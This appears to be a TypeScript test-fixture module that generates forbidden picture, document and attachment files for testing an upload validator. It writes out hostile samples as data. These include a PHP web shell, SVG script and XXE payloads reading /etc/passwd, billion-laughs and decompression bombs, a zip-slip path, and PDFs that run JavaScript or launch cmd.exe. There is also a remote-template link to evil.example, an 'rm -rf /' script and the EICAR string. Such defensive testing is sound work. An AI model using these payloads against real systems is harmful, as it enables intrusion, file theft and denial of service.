import { crc32, deflateSync } from 'node:zlib'
import { strToU8, type Zippable, zipSync } from 'fflate'
import sharp from 'sharp'

export type NamedFile = { name: string; bytes: Buffer }

const bytesOf = (...parts: (string | Buffer | number[])[]) =>
  Buffer.concat(
    parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))),
  )

const PNG_HEAD = '\x89PNG\r\n\x1a\n'

function chunk(type: string, content: Buffer, length = content.length): Buffer {
  const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  size.writeUInt32BE(length)
  sum.writeUInt32BE(crc32(bytesOf(type, content)))
  return bytesOf(size, type, content, sum)
}

/** A grey PNG of one bit a pixel: what it unpacks to is a thousand times what it weighs. */
function png(
  width: number,
  height: number,
  { interlaced = 0, more = Buffer.alloc(0) as Buffer } = {},
): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head.set([1, 0, 0, 0, interlaced], 8)
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height)
  return bytesOf(
    PNG_HEAD,
    chunk('IHDR', head),
    more,
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  )
}

function zipOf(name: string, content: Buffer): Buffer {
  const head = Buffer.alloc(30)
  head.write('PK\x03\x04', 'latin1')
  head.writeUInt16LE(name.length, 26)
  return bytesOf(head, name, content)
}

const svg = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200">${inside}</svg>`
const pdf = (inside: string) => `%PDF-1.7\n1 0 obj\n${inside}\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`
const ftyp = (brands: string) => bytesOf([0, 0, 0, 8 + brands.length], 'ftyp', brands, Buffer.alloc(400))
/** The file by which scanners are tested. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

/** A small photograph. */
export async function aPhoto(width = 400, height = 300) {
  const noise = sharp({
    create: {
      width,
      height,
      channels: 3,
      background: '#0e6b54',
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
    },
  })
  return Buffer.from(await noise.jpeg().toBuffer())
}

export const aPdf = () => Buffer.from(pdf('<< /Type /Catalog >>'), 'latin1')

/** Files that nobody may upload as a picture, each with what it is. */
export async function badPictures(): Promise<Record<string, NamedFile>> {
  const photo = await aPhoto()
  const webp = Buffer.from(await sharp(photo).webp().toBuffer())
  const avif = Buffer.from(await sharp(photo).avif({ effort: 0 }).toBuffer())
  const named = (name: string, ...parts: (string | Buffer | number[])[]) => ({
    name,
    bytes: bytesOf(...parts),
  })
  return {
    'no byte': named('empty.jpg'),
    'one byte': named('one.jpg', '\xff'),
    'only spaces': named('spaces.png', ' '.repeat(2_000)),
    'a program': named('photo.jpg', 'MZ\x90\x00', Buffer.alloc(2_000)),
    'a program for Linux': named('photo.jpg', '\x7fELF', Buffer.alloc(2_000)),
    'a page': named('photo.jpg', '<!DOCTYPE html><script>window.bad = 1</script>'),
    'a script': named('a.php.jpg', '<?php system($_GET["c"]); ?>'),
    'a GIF': named('a.gif', 'GIF89a', Buffer.alloc(200)),
    'a GIF that is a script too': named('a.jpg', 'GIF89a/*', Buffer.alloc(60), '*/=1;alert(1)'),
    'a TIFF': named('a.tiff', 'II*\x00', Buffer.alloc(200)),
    'a bitmap': named('a.bmp', 'BM', Buffer.alloc(200)),
    'an icon': named('a.ico', [0, 0, 1, 0, 1, 0], Buffer.alloc(200)),
    'a film': named('a.mp4', ftyp('isom\0\0\x02\0isomavc1')),
    'a HEIC': named('a.heic', ftyp('heic\0\0\0\0mif1heic')),
    'a PDF': named('a.jpg', pdf('')),
    'an archive': named('a.jpg', zipOf('a.txt', Buffer.from('x'))),
    'an archive that unpacks to a thousand times its size': named(
      'a.png',
      zipOf('a', deflateSync(Buffer.alloc(5_000_000))),
    ),
    'an archive that climbs out': named('a.jpg', zipOf('../../etc/passwd', Buffer.from('x'))),
    'a virus to test with': named('a.jpg', EICAR),
    'a drawing with a script': named('a.svg', svg('<script>window.bad = 1</script>')),
    'a drawing with a page in it': named(
      'a.svg',
      svg('<foreignObject><body onload="bad()"/></foreignObject>'),
    ),
    'a drawing that reads a file': named(
      'a.svg',
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
      svg('<text>&x;</text>'),
    ),
    'a drawing that grows without end': named(
      'a.svg',
      '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>',
      svg('<text>&b;</text>'),
    ),
    'a drawing called a photo': named('photo.jpg', svg('')),
    'a drawing behind a comment': named('photo.png', '\n <!-- x -->', svg('')),
    'a drawing with a byte order mark': named('a.svg', '\xef\xbb\xbf', svg('')),
    'the first bytes of a JPEG': named('a.jpg', '\xff\xd8\xff\xe0'),
    'the first bytes of a JPEG and letters': named('a.jpg', '\xff\xd8\xff', 'x'.repeat(5_000)),
    'the first bytes of a PNG': named('a.png', PNG_HEAD),
    'the first bytes of a WebP': named('a.webp', 'RIFF\0\0\0\0WEBP', Buffer.alloc(200)),
    'the first bytes of an AVIF': named('a.avif', ftyp('avif\0\0\0\0avifmif1')),
    'half a JPEG': named('a.jpg', photo.subarray(0, photo.length / 2)),
    'half a PNG': named('a.png', (await sharp(photo).png().toBuffer()).subarray(0, 20_000)),
    'half a WebP': named('a.webp', webp.subarray(0, webp.length / 2)),
    'half an AVIF': named('a.avif', avif.subarray(0, avif.length / 2)),
    'a PNG of 900 megapixels': named('a.png', png(30_000, 30_000)),
    'a PNG of 50 megapixels and one': named('a.png', png(10_001, 5_000)),
    'a PNG of 30 megapixels that stands in memory whole': named(
      'a.png',
      png(6_000, 5_000, { interlaced: 1 }),
    ),
    'a PNG as wide as a number goes': named(
      'a.png',
      PNG_HEAD,
      chunk('IHDR', bytesOf([127, 255, 255, 255, 0, 0, 0, 100, 8, 2, 0, 0, 0])),
    ),
    'a PNG without width': named('a.png', png(0, 100)),
    'a PNG of one pixel with 50 megabytes of text': named(
      'a.png',
      png(1, 1, { more: chunk('zTXt', bytesOf('Comment\0\0', deflateSync(Buffer.alloc(50_000_000)))) }),
    ),
    'a PNG whose part says that it is larger than it is': named(
      'a.png',
      png(200, 200, { more: chunk('tEXt', Buffer.from('a\0b'), 2 ** 31 - 1) }),
    ),
    'a PNG narrower than a thumb': named('a.png', png(89, 400)),
    'a JPEG of one pixel': named('a.jpg', await aPhoto(1, 1)),
  }
}

/** Files that nobody may upload as a document. */
export function badDocuments(): Record<string, NamedFile> {
  const named = (name: string, ...parts: (string | Buffer)[]) => ({ name, bytes: bytesOf(...parts) })
  return {
    'no byte': named('empty.pdf'),
    'a program': named('certificate.pdf', 'MZ\x90\x00', Buffer.alloc(2_000)),
    'a page': named('certificate.pdf', '<!DOCTYPE html><script>window.bad = 1</script>'),
    'a page that is a PDF further down': named('certificate.pdf', '<html><script>bad()</script>', pdf('')),
    'a PDF with a script': named('a.pdf', pdf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')),
    'a PDF with a script in other signs': named('a.pdf', pdf('<< /OpenAction << /S /J#61vaScr#69pt >> >>')),
    'a PDF that starts a program': named('a.pdf', pdf('<< /OpenAction << /S /Launch /F (cmd.exe) >> >>')),
    'a PDF with files in it': named('a.pdf', pdf('<< /Type /EmbeddedFile >>')),
    'a PDF with a film': named('a.pdf', pdf('<< /Subtype /RichMedia >>')),
    'a PDF with a form of its own': named('a.pdf', pdf('<< /AcroForm << /XFA 5 0 R >> >>')),
    'a PDF behind a password': named('a.pdf', pdf('<< >>').replace('/Root', '/Encrypt 2 0 R /Root')),
    'half a PDF': named('a.pdf', aPdf().subarray(0, 40)),
    'an archive': named('a.pdf', zipOf('a', Buffer.alloc(10))),
    'a text with a macro': named('a.docm', zipOf('word/vbaProject.bin', Buffer.alloc(10))),
    'a virus to test with': named('a.pdf', EICAR),
    PostScript: named('a.ps', '%!PS-Adobe-3.0\n'),
    'a drawing': named('a.svg', svg('<script>bad()</script>')),
    'a film': named('a.mp4', ftyp('isom\0\0\x02\0isomavc1')),
  }
}

const TYPES = '[Content_Types].xml'
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const types = (main: string) =>
  `<Types><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`

/** A document of Office Open XML with further parts in it, or others in place of its own. */
export function aDocx(parts: Record<string, string | Uint8Array> = {}): Buffer {
  const all = { [TYPES]: types(DOCX), 'word/document.xml': '<w:document/>', ...parts }
  const packed = Object.entries(all).map(([name, part]) => [
    name,
    typeof part === 'string' ? strToU8(part) : part,
  ])
  return Buffer.from(zipSync(Object.fromEntries(packed) as Zippable))
}

/** A document with the mark of a lock on its parts. */
function lockedDocx(): Buffer {
  const bytes = aDocx()
  for (let at = bytes.indexOf('PK\x01\x02'); at >= 0; at = bytes.indexOf('PK\x01\x02', at + 4))
    bytes.writeUInt16LE(bytes.readUInt16LE(at + 8) | 1, at + 8)
  return bytes
}

/** Files that nobody may send with a message, each with what it is and the reason that is said. */
export function badAttachments(): Record<string, NamedFile & { reason: string }> {
  const named = (reason: string, name: string, ...parts: (string | Buffer)[]) => ({
    reason,
    name,
    bytes: bytesOf(...parts),
  })
  const relations = (type: string) =>
    `<Relationships><Relationship Id="a" Type="http://schemas/${type}" Target="https://evil.example/a" TargetMode="External"/></Relationships>`
  return {
    'a virus to test with': named('infected', 'notes.txt', EICAR),
    'one within a text': named('infected', 'notes.txt', `Hello\n${EICAR}\n`),
    'one packed into a document': named('infected', 'a.docx', aDocx({ 'word/media/a.bin': EICAR })),
    'a document that unpacks to a thousand times its size': named(
      'bomb',
      'a.docx',
      aDocx({ 'word/media/a.bin': new Uint8Array(60_000_000) }),
    ),
    'a document that says less than it unpacks to': named('bomb', 'a.docx', understated()),
    'a PDF that is an archive too': named('twoTypes', 'a.pdf', aPdf(), aDocx()),
    'a PDF that is a page too': named('twoTypes', 'a.pdf', '%PDF-1.7\n<html><script>bad()</script>\n%%EOF\n'),
    'an archive with something before it': named('notTaken', 'a.docx', '\x01', aDocx()),
    'an archive with something behind it': named('brokenArchive', 'a.docx', aDocx(), 'MZ\x90'),
    'a document with macros': named('macros', 'a.docx', aDocx({ 'word/vbaProject.bin': 'x' })),
    'a document whose type says macros': named(
      'macros',
      'a.docx',
      aDocx({ [TYPES]: types('application/vnd.ms-word.document.macroEnabled.main+xml') }),
    ),
    'a document with a program in it': named('macros', 'a.docx', aDocx({ 'word/embeddings/a.bin': 'x' })),
    'a document with ActiveX': named('macros', 'a.docx', aDocx({ 'word/activeX/a.xml': 'x' })),
    'a document with a template from elsewhere': named(
      'macros',
      'a.docx',
      aDocx({ 'word/_rels/settings.xml.rels': relations('attachedTemplate') }),
    ),
    'a locked document': named('locked', 'a.docx', lockedDocx()),
    'a locked document of today’s Office': named(
      'oldOffice',
      'a.docx',
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(2_000),
    ),
    'half a document': named('brokenArchive', 'a.docx', aDocx().subarray(0, 100)),
    'an archive of anything': named('archive', 'a.zip', Buffer.from(zipSync({ 'a.txt': strToU8('x') }))),
    'a program': named('notTaken', 'a.txt', 'MZ\x90\x00', Buffer.alloc(2_000)),
    'a page': named('notTaken', 'a.txt', '<!DOCTYPE html><script>bad()</script>'),
    'a script': named('notTaken', 'a.txt', '#!/bin/sh\nrm -rf /\n'),
    'a drawing': named('svg', 'a.svg', svg('<script>bad()</script>')),
    'a PDF with a script': named('active', 'a.pdf', pdf('<< /S /J#61vaScript /JS (app.alert(1)) >>')),
    'a PDF behind a password': named(
      'locked',
      'a.pdf',
      pdf('<< >>').replace('/Root', '/Encrypt 2 0 R /Root'),
    ),
    'no byte': named('notTaken', 'a.txt'),
  }
}

function understated(): Buffer {
  const bytes = aDocx({ 'word/media/a.bin': new Uint8Array(60_000_000) })
  for (const [mark, place] of [
    ['PK\x03\x04', 22],
    ['PK\x01\x02', 24],
  ] as const)
    for (let at = bytes.indexOf(mark); at >= 0; at = bytes.indexOf(mark, at + 4))
      bytes.writeUInt32LE(10, at + place)
  return bytes
}
